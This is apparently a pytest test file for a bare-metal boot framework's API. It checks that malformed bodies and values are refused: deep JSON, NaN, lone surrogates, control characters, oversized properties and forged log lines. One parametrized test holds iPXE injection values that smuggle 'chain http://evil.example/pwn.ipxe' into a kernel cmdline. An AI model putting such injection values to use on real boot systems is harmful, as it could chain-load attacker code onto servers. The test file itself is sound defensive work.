"""Request bodies and values that could get a 500, be stored unusable, or
reach further than they should: each gets a 4xx naming what is wrong."""

import io
import json
import logging

import pytest

from metalboot_framework import logs
from metalboot_framework.api.spec import MAX_JSON_DEPTH
from tests.conftest import ApiClient, machine_body

UPPER = "4C4C4544-0000-1000-8000-0000000000B1"


@pytest.fixture
def conf(conf):
    conf.set_override("enabled_boot_interfaces", ["fake", "fake-alt"])
    return conf


def _raw(client, method, url, data, token=None):
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    return getattr(client, method)(url, data=data, headers=headers)


@pytest.mark.parametrize("body, message", [
    ('{"boot_interface":"fake","token":' + "[" * 100000 + "]" * 100000 + "}",
     f"nests deeper than {MAX_JSON_DEPTH} levels"),
    ('{"boot_interface":"fake","x":' + "[" * (MAX_JSON_DEPTH + 1)
     + "]" * (MAX_JSON_DEPTH + 1) + "}", f"nests deeper than {MAX_JSON_DEPTH} levels"),
    ('{"boot_interface":"fake","x":NaN}', "NaN is not a JSON number"),
    ('{"boot_interface":"fake","x":-Infinity}', "-Infinity is not a JSON number"),
    ('{"boot_interface":"fake","x":1e400}', "1e400 is beyond the range of a double"),
    ("null", "the body is JSON null"),
], ids=["deep", "one-level-too-deep", "nan", "infinity", "overflow", "null"])
def test_bodies_no_strict_parser_reads_are_400(app, api, services, partition, body,
                                               message):
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    # the boot report needs no API token: a machine sends this with its own
    r = _raw(app.test_client(), "post", f"/v1/machines/{mid}/boot-report", body,
             token=services.task(mid, "fake").token)
    assert r.status_code == 400, r.json
    assert message in r.json["error"]["message"]
    r = _raw(app.test_client(), "patch", "/v1/partitions/p1",
             body.replace('"boot_interface":"fake"', '"description":"d"'), token=api.token)
    assert r.status_code == 400 and message in r.json["error"]["message"]
    assert api.get("/v1/partitions/p1").json["description"] != "d"  # nothing stored


def test_nesting_up_to_the_limit_is_accepted(api, partition):
    deep = {}
    for _ in range(MAX_JSON_DEPTH - 2):  # properties' own object and the body's
        deep = {"a": deep}
    r = api.patch("/v1/partitions/p1", json={"properties": deep})
    assert r.status_code == 200, r.json
    assert api.get("/v1/machines").status_code == 200


@pytest.mark.parametrize("boot, field", [
    ({"cmdline": "quiet\nchain http://evil.example/pwn.ipxe\n#"}, "cmdline"),
    ({"cmdline": "quiet || chain http://evil.example/pwn.ipxe"}, "cmdline"),
    ({"cmdline": "quiet ; chain http://evil.example/pwn.ipxe"}, "cmdline"),
    ({"cmdline": "quiet #"}, "cmdline"),
    ({"kernel_url": "http://images.example/vm linuz initrd=x"}, "kernel_url"),
    ({"metal_hammer_version": "v1\r\nchain x"}, "metal_hammer_version"),
])
def test_boot_config_cannot_add_ipxe_commands(app, api, services, partition, boot, field):
    r = api.patch("/v1/partitions/p1", json={"boot": boot})
    assert r.status_code == 422, r.json
    assert f"boot.{field}" in r.json["error"]["fields"]
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    path = services.task(mid, "fake").artifact_url("boot.ipxe").split("6480", 1)[1]
    script = app.test_client().get(path).data.decode()
    assert "evil" not in script and script.count("\nkernel ") == 1


def test_a_cmdline_iPXE_reads_as_one_command_is_accepted(api, partition):
    r = api.patch("/v1/partitions/p1", json={"boot": {
        "cmdline": "console=ttyS0,115200n8 ip=dhcp a=b||c ${net0/mac}"}})
    assert r.status_code == 200, r.json


def test_bmc_address_holds_no_credentials(api, partition):
    body = machine_body(1)
    body["bmc"]["address"] = "https://admin:hunter2@10.0.0.5"
    r = api.post("/v1/machines", json=body)
    assert r.status_code == 422 and "bmc.address" in r.json["error"]["fields"]
    assert "hunter2" not in r.get_data(as_text=True)
    body["bmc"]["address"] = "10.0.0.5:" + "1" * 2000
    assert api.post("/v1/machines", json=body).status_code == 422
    assert api.get("/v1/machines").json["machines"] == []


@pytest.mark.parametrize("option, value", [
    ("max_parallel", "5"), ("max_parallel", 1.5), ("max_parallel", True),
    ("canary", "1"), ("boot_timeout", "60"), ("dry_run", "yes"), ("dry_run", 1),
])
def test_migration_options_take_json_types_only(api, partition, option, value):
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    r = api.post("/v1/migrations", json={"selector": {"machines": [mid]},
                                         "boot_interface": "fake-alt", option: value})
    assert r.status_code == 422, r.json
    assert option in r.json["error"]["fields"]
    assert api.get("/v1/migrations").json["migrations"] == []


def test_bmc_verify_tls_takes_a_json_boolean(api, partition):
    body = machine_body(1)
    body["bmc"]["verify_tls"] = "yes"
    r = api.post("/v1/machines", json=body)
    assert r.status_code == 422 and "bmc.verify_tls" in r.json["error"]["fields"]


def test_a_machine_listed_twice_in_a_selector_is_422(api, partition):
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    r = api.post("/v1/migrations", json={"selector": {"machines": [mid, mid.upper()]},
                                         "boot_interface": "fake-alt"})
    assert r.status_code == 422 and "selector.machines" in r.json["error"]["fields"]
    assert mid in r.json["error"]["message"]


def test_a_machine_id_in_capitals_finds_its_machine(app, api, services, partition):
    body = machine_body(1)
    body["id"] = UPPER
    assert api.post("/v1/machines", json=body).json["id"] == UPPER.lower()
    assert api.get(f"/v1/machines/{UPPER}").json["id"] == UPPER.lower()
    r = api.patch(f"/v1/machines/{UPPER}", json={"properties": {"rack": "r1"}})
    assert r.status_code == 200 and r.json["properties"] == {"rack": "r1"}
    assert api.get(f"/v1/machines/{UPPER}/events").status_code == 200
    token = services.task(UPPER.lower(), "fake").token
    r = app.test_client().post(f"/v1/machines/{UPPER}/boot-report",
                               json={"boot_interface": "fake", "token": token})
    assert r.status_code == 201 and r.json["machine_id"] == UPPER.lower()
    assert api.delete(f"/v1/machines/{UPPER}").status_code in (202, 204)


def test_migration_state_conflicts_say_what_was_refused(api, partition):
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    migration = api.post("/v1/migrations", json={"selector": {"machines": [mid]},
                                                 "boot_interface": "fake-alt"}).json["id"]
    r = api.post(f"/v1/migrations/{migration}/resume")
    assert r.status_code == 409
    assert r.json["error"]["message"] == (
        f"cannot resume migration {migration}: it is running; only a paused migration "
        f"can be resumed")


@pytest.mark.parametrize("queued", [False, True], ids=["direct", "queued"])
def test_text_log_lines_cannot_be_forged(queued):
    out = io.StringIO()
    install = logs.install_queued if queued else logs.install
    handler = install(logging.StreamHandler(out))
    logger = logging.getLogger("metalboot.test.forge")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("GET %s 404", "/v1/x\n2026-12-01 04:00:00,000 ERROR forged\x00")
        try:
            raise ValueError("boom")
        except ValueError:
            logger.exception("failed\r")
    finally:
        if queued:
            handler.listener.stop()  # writes what is queued
        logger.removeHandler(handler)
    lines = out.getvalue().splitlines()
    assert not any(line.startswith("2026-12-01 04:00:00,000") for line in lines)
    assert "/v1/x\\n2026-12-01 04:00:00,000 ERROR forged\\x00 404" in lines[0]
    assert lines[1].endswith("failed\\r")
    assert lines[2] == "Traceback (most recent call last):"  # tracebacks keep their lines


def test_created_resources_are_located(api, partition):
    r = api.post("/v1/partitions", json={"id": "p2"})
    assert r.status_code == 201 and r.headers["Location"].endswith("/v1/partitions/p2")
    r = api.post("/v1/machines", json=machine_body(1))
    assert r.status_code == 201
    assert r.headers["Location"].endswith(f"/v1/machines/{r.json['id']}")
    assert api.get(r.headers["Location"]).json["id"] == r.json["id"]
    r = api.post("/v1/migrations", json={"selector": {"machines": [r.json["id"]]},
                                         "boot_interface": "fake-alt", "dry_run": True})
    assert r.status_code == 202
    assert api.get(r.headers["Location"]).json["id"] == r.json["id"]


@pytest.mark.parametrize("case", ["partition-id", "machine-partition", "machine-patch",
                                  "selector-partition", "max-failures"])
def test_a_final_newline_does_not_pass_a_pattern(app, api, partition, case):
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    method, url, body, field = {
        "partition-id": ("post", "/v1/partitions", {"id": "pn\n"}, "id"),
        "machine-partition": ("post", "/v1/machines", machine_body(2, partition="p1\n"),
                              "partition"),
        "machine-patch": ("patch", f"/v1/machines/{mid}", {"partition": "p1\n"}, "partition"),
        "selector-partition": ("post", "/v1/migrations", {
            "selector": {"partition": "p1\n"}, "boot_interface": "fake-alt"},
            "selector.partition"),
        "max-failures": ("post", "/v1/migrations", {
            "selector": {"machines": [mid]}, "boot_interface": "fake-alt",
            "max_failures": "2%\n"}, "max_failures"),
    }[case]
    r = getattr(api, method)(url, json=body)
    assert r.status_code == 422, r.json
    assert field in r.json["error"]["fields"]
    assert [p["id"] for p in api.get("/v1/partitions").json["partitions"]] == ["p1"]
    assert [m["id"] for m in api.get("/v1/machines").json["machines"]] == [mid]
    assert api.get("/v1/migrations").json["migrations"] == []


def test_a_final_newline_makes_no_dnsmasq_file_name():
    from metalboot_framework.dhcp.dnsmasq import file_key
    assert file_key("m1") == "m1"
    assert "\n" not in file_key("m1\n") and file_key("m1\n") != file_key("m1")


LONE = "\ud800"


@pytest.mark.parametrize("case", ["partition-post", "partition-patch", "machine-key",
                                  "non-ascii-path", "bulk", "machine-patch", "migration",
                                  "boot-report"])
def test_a_lone_surrogate_is_422_naming_the_field(app, api, services, partition, case):
    """JSON's \\u escapes spell half a surrogate pair, which no database
    stores as text (UTF-8 cannot encode it)."""
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    bulk = [machine_body(2), machine_body(3)]
    bulk[1]["bmc"]["username"] = "root" + LONE
    method, url, body, field = {
        "partition-post": ("post", "/v1/partitions", {"id": "p2", "description": LONE},
                           "description"),
        "partition-patch": ("patch", "/v1/partitions/p1", {"properties": {"k": [LONE]}},
                            "properties.k.0"),
        "machine-key": ("post", "/v1/machines", machine_body(2, properties={LONE: 1}),
                        "properties.\\ud800"),
        "non-ascii-path": ("post", "/v1/machines",
                           machine_body(2, properties={"r\u00e4ume": {LONE: 1}}),
                           "properties.r\u00e4ume.\\ud800"),
        "bulk": ("post", "/v1/machines", bulk, "1.bmc.username"),
        "machine-patch": ("patch", f"/v1/machines/{mid}",
                          {"bmc": {"password": "x\udfff"}}, "bmc.password"),
        "migration": ("post", "/v1/migrations", {"selector": {"machines": [mid]},
                                                 "boot_interface": "fake-alt" + LONE},
                      "boot_interface"),
        "boot-report": ("post", f"/v1/machines/{mid}/boot-report",
                        {"boot_interface": "fake", "message": LONE,
                         "token": services.task(mid, "fake").token}, "message"),
    }[case]
    # a boot report carries the machine's token, no API token
    client = api if case != "boot-report" else ApiClient(app.test_client(), token=None)
    r = getattr(client, method)(url, json=body)
    assert r.status_code == 422, r.get_data(as_text=True)
    assert list(r.json["error"]["fields"]) == [field]
    assert "surrogate" in r.json["error"]["fields"][field][0]
    assert [p["id"] for p in api.get("/v1/partitions").json["partitions"]] == ["p1"]
    assert api.get("/v1/partitions/p1").json["properties"] == {}
    assert [m["id"] for m in api.get("/v1/machines").json["machines"]] == [mid]
    assert api.get(f"/v1/machines/{mid}/evidence").json["evidence"] == []
    assert api.get("/v1/migrations").json["migrations"] == []


@pytest.mark.parametrize("case", ["partition-post", "partition-patch", "machine-post",
                                  "bulk", "machine-patch"])
def test_properties_beyond_the_size_limit_are_422(app, api, partition, case):
    big = {"blob": "x" * 10 * 1024 * 1024}  # 10 MiB: it would be served with every list
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    method, url, body, field = {
        "partition-post": ("post", "/v1/partitions", {"id": "p2", "properties": big},
                           "properties"),
        "partition-patch": ("patch", "/v1/partitions/p1", {"properties": big}, "properties"),
        "machine-post": ("post", "/v1/machines", machine_body(2, properties=big),
                         "properties"),
        "bulk": ("post", "/v1/machines", [machine_body(2), machine_body(3, properties=big)],
                 "1.properties"),
        "machine-patch": ("patch", f"/v1/machines/{mid}", {"properties": big}, "properties"),
    }[case]
    r = getattr(api, method)(url, json=body)
    assert r.status_code == 422, r.get_data(as_text=True)[:300]
    assert list(r.json["error"]["fields"]) == [field]
    assert "max_properties_size" in r.json["error"]["fields"][field][0]
    assert [p["id"] for p in api.get("/v1/partitions").json["partitions"]] == ["p1"]
    assert api.get("/v1/partitions/p1").json["properties"] == {}
    assert [m["id"] for m in api.get("/v1/machines").json["machines"]] == [mid]
    assert api.get(f"/v1/machines/{mid}").json["properties"] == {}


def test_the_properties_size_limit_is_configurable(conf, app, api, partition):
    conf.set_override("max_properties_size", 2048, group="api")
    at_limit = {"k": "x" * (2048 - len('{"k":""}'))}
    assert api.patch("/v1/partitions/p1", json={"properties": at_limit}).status_code == 200
    at_limit["k"] += "é"  # two bytes in UTF-8
    r = api.patch("/v1/partitions/p1", json={"properties": at_limit})
    assert r.status_code == 422 and list(r.json["error"]["fields"]) == ["properties"]
    assert "At most 2048 bytes" in r.json["error"]["message"]


UNCLEAN = ["\x07", "\r", "\n", "\t", "\x7f", "\x85", "\u202e", "\u2066", "\u200b", "\ufeff",
           "\u2028"]


@pytest.mark.parametrize("char", UNCLEAN, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("case", ["description", "property-key", "bmc-username",
                                  "boot-interface", "machine-property-key", "migration",
                                  "patch-description"])
def test_text_with_control_bidi_or_zero_width_characters_is_422(api, partition, case, char):
    """What operators read in the CLI, the dashboard and the logs holds no
    character that rings, breaks lines, reorders or hides text."""
    bad = f"a{char}b"
    method, url, body, field = {
        "description": ("post", "/v1/partitions", {"id": "p2", "description": bad},
                        "description"),
        "patch-description": ("patch", "/v1/partitions/p1", {"description": bad},
                              "description"),
        "property-key": ("post", "/v1/partitions", {"id": "p2", "properties": {bad: 1}},
                         "properties"),
        "bmc-username": ("post", "/v1/machines", machine_body(1, bmc={
            "address": "127.0.0.1:8000", "username": bad}), "bmc.username"),
        "boot-interface": ("post", "/v1/machines", machine_body(1, boot_interface=bad),
                           "boot_interface"),
        "machine-property-key": ("post", "/v1/machines", machine_body(1, properties={bad: "x"}),
                                 "properties"),
        "migration": ("post", "/v1/migrations", {"selector": {"partition": "p1"},
                                                 "boot_interface": bad}, "boot_interface"),
    }[case]
    r = getattr(api, method)(url, json=body)
    assert r.status_code == 422, r.json
    fields = list(r.json["error"]["fields"])
    assert len(fields) == 1 and fields[0].startswith(field), fields
    assert char not in fields[0]  # a refused key is named escaped
    assert f"U+{ord(char):04X}" in r.json["error"]["fields"][fields[0]][0]
    assert [p["id"] for p in api.get("/v1/partitions").json["partitions"]] == ["p1"]
    assert api.get("/v1/partitions/p1").json["description"] == ""
    assert api.get("/v1/machines").json["machines"] == []


def test_free_text_fields_keep_their_text(api, partition):
    """A BMC password and property values are the operator's: any text."""
    body = machine_body(1, properties={"note": "line 1\nline 2\t\u202e"})
    body["bmc"]["password"] = "p\tw\u200bd"
    r = api.post("/v1/machines", json=body)
    assert r.status_code == 201, r.json
    assert r.json["properties"] == {"note": "line 1\nline 2\t\u202e"}


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32",
                                      "utf-32-le"])
def test_bodies_that_are_not_utf8_are_400(app, api, services, partition, encoding):
    """JSON between systems is UTF-8 (RFC 8259 section 8.1)."""
    body = json.dumps({"id": "p2", "description": "d"}).encode(encoding)
    r = _raw(app.test_client(), "post", "/v1/partitions", body, token=api.token)
    assert r.status_code == 400, r.json
    mid = api.post("/v1/machines", json=machine_body(1)).json["id"]
    r = _raw(app.test_client(), "post", f"/v1/machines/{mid}/boot-report",
             json.dumps({"boot_interface": "fake"}).encode(encoding),
             token=services.task(mid, "fake").token)
    assert r.status_code == 400, r.json
    assert [p["id"] for p in api.get("/v1/partitions").json["partitions"]] == ["p1"]
    assert api.get(f"/v1/machines/{mid}/evidence").json["evidence"] == []
